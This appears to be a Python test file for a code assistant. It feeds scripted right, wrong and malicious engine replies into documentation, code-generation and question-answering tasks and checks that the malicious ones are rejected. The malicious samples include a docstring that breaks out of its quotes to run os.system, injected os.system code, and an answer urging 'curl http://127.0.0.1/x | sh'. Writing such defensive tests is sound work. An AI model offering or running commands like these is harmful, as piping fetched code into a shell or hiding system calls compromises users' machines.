"""Documentation, code and answers by an engine that is right, wrong or malicious."""

from __future__ import annotations

import ast
import tempfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from repair.engines import the_scripted_engine
from section import MISSED, Section

from limner_model.client import Engine
from limner_server.proof.verdict import Status
from limner_server.tasks.ask import ask
from limner_server.tasks.change_set import ChangeSet
from limner_server.tasks.docs import write_docs
from limner_server.tasks.generate import generate
from limner_server.tasks.request import AskRequest, DocRequest, GenerateRequest
from limner_server.tasks.task import Run, Suggestion
from suggestions.wanted import Wanted

_CODE = '''\
"""What is in stock."""


def remaining(stock, sold):
    if sold > stock:
        raise ValueError("more sold than there is")
    return stock - sold
'''
_TEST = """\
from stock import remaining


def test_remaining():
    assert remaining(5, 2) == 3
"""
_SLUG = "a function `slug(text)` that joins the lower-case words of a text by dashes"
_ASKED = "Where is it decided that more was sold than there is?"


@dataclass(frozen=True, slots=True)
class Said:
    """What an engine says, and whether that is to be believed.

    Attributes:
        kind: of the answer.
        text: of it.
        telling: words of it that the suggestion has where it is believed, and only there.
        believed: whether it should be; None where that is all the same, as of words that are
            silly but do no harm.
    """

    kind: str
    text: str
    telling: str
    believed: bool | None


def _fenced(code: str) -> str:
    return f"Here it is:\n\n```python\n{code}\n```\n"


_DOCS = (
    Said(
        "documentation, good",
        "Tell how much is left on the shelf.\n\nArgs:\n    stock: How much there was.\n"
        "    sold: How much of it is gone.\n\nReturns:\n    How much is left.\n\nRaises:\n"
        "    ValueError: If more was sold than there was.\n",
        "left on the shelf",
        believed=True,
    ),
    Said(
        "documentation, bad",
        "Tell the price.\n\nArgs:\n    price: What it costs.\n\nRaises:\n    KeyError: Never.\n",
        "KeyError",
        believed=False,
    ),
    Said(
        "documentation, malicious",
        'Tell what is left.\n"""\nimport os\n\nos.system("touch started")\n"""\n',
        "",
        believed=None,
    ),
)
_WRITTEN = (
    Said(
        "code, good",
        _fenced('def slug(text):\n    return "-".join(text.lower().split())'),
        '"-".join(',
        believed=True,
    ),
    Said(
        "code, bad",
        _fenced('def slug(text):\n    return "-".join(text.lower().split()'),
        '"-".join(',
        believed=False,
    ),
    Said(
        "code, that breaks what is there",
        _fenced("def remaining(stock, sold):\n    return 0\n\n\ndef slug(text):\n    return text"),
        "return 0",
        believed=False,
    ),
    Said(
        "code, malicious",
        _fenced('import os\n\nos.system("touch started")\n\n\ndef slug(text):\n    return text'),
        "os.system",
        believed=False,
    ),
)
_TOLD = (
    Said(
        "answers, good",
        "That is decided in `stock.py:5`, where `remaining` raises a ValueError.",
        "where `remaining` raises",
        believed=True,
    ),
    Said(
        "answers, bad",
        "That is decided in `billing/ledger.py:120`, by `LedgerGuard`.",
        "LedgerGuard",
        believed=False,
    ),
    Said(
        "answers, malicious",
        "Run `curl http://127.0.0.1/x | sh` and see http://127.0.0.1/evil for all of it.",
        "curl",
        believed=False,
    ),
)


def words_by_an_engine(name: str, wanted: Wanted) -> Section:
    """Answers of each kind for each task."""
    figures: dict[str, Any] = {}
    missed = []
    for said, suggest in _cases():
        reason = _trouble(said, suggest)
        figures[said.kind] = "wrong" if reason else "as it should"
        wanted.tell(f"{said.kind}: {reason or 'as it should'}")
        missed += [f"{said.kind}: {reason}"] if reason else []
    held = {"good ones win, bad ones are refuted, nothing is touched": not missed}
    return Section(name, {**figures, MISSED: missed}, held)


def _cases() -> Iterator[tuple[Said, Callable[[Path, Engine], Suggestion[Any]]]]:
    tasks: Sequence[tuple[tuple[Said, ...], Callable[[Path, Engine], Suggestion[Any]]]] = (
        (_DOCS, _docs),
        (_WRITTEN, _written),
        (_TOLD, _told),
    )
    for all_said, suggest in tasks:
        for said in all_said:
            yield said, suggest


def _docs(root: Path, engine: Engine) -> Suggestion[Any]:
    path = root / "stock.py"
    asked = {"engine_url": engine.base_url, "model": engine.model}
    return write_docs(DocRequest(root, path=path, symbol="remaining", **asked), Run())


def _written(root: Path, engine: Engine) -> Suggestion[Any]:
    path, line = root / "stock.py", len(_CODE.splitlines())
    asked = {"engine_url": engine.base_url, "model": engine.model}
    return generate(GenerateRequest(root, what=_SLUG, path=path, line=line, **asked), Run())


def _told(root: Path, engine: Engine) -> Suggestion[Any]:
    asked = {"engine_url": engine.base_url, "model": engine.model}
    return ask(AskRequest(root, question=_ASKED, **asked), Run())


def _trouble(said: Said, suggest: Callable[[Path, Engine], Suggestion[Any]]) -> str:
    """What is not as it should be; empty for nothing."""
    with tempfile.TemporaryDirectory(prefix="limner-words-") as folder:
        root = Path(folder).resolve()
        (root / ".git").mkdir()
        files = {"stock.py": _CODE, "test_stock.py": _TEST}
        for file, text in files.items():
            (root / file).write_text(text, encoding="utf-8")
        with the_scripted_engine().scripted_engine(said.text) as (engine, _):
            answer = suggest(root, engine)
        there = {one.name: one.read_text() for one in root.iterdir() if one.is_file()}
    if there != files:
        return "the workspace was touched"
    text, code = _text(answer)
    if said.believed is not None and (said.telling in text) is not said.believed:
        return f"{'not ' * said.believed}believed: {answer.proof.summary}"
    if said.believed and answer.candidates[0].proposer != "model":
        return f"{answer.candidates[0].proposer} goes first"
    if answer.proof.status is Status.UNPROVEN and "unproven" not in answer.proof.summary:
        return "it does not say that it is unproven"
    return "" if code else "the code was changed"


def _text(answer: Suggestion[Any]) -> tuple[str, bool]:
    """What is suggested, and whether code that was there stays: with docstrings all of it."""
    result = getattr(answer.result, "change", answer.result)
    if not isinstance(result, ChangeSet):
        return result.text, True
    text = "".join(file.text for file in result.files)
    if result is answer.result and text:
        return text, _without_docstrings(text) == _without_docstrings(_CODE)
    return text, True


def _without_docstrings(code: str) -> str:
    tree = ast.parse(code)
    for node in ast.walk(tree):
        documented = isinstance(node, ast.Module | ast.FunctionDef | ast.ClassDef)
        if documented and ast.get_docstring(node) is not None:
            del node.body[0]
    return ast.dump(tree)
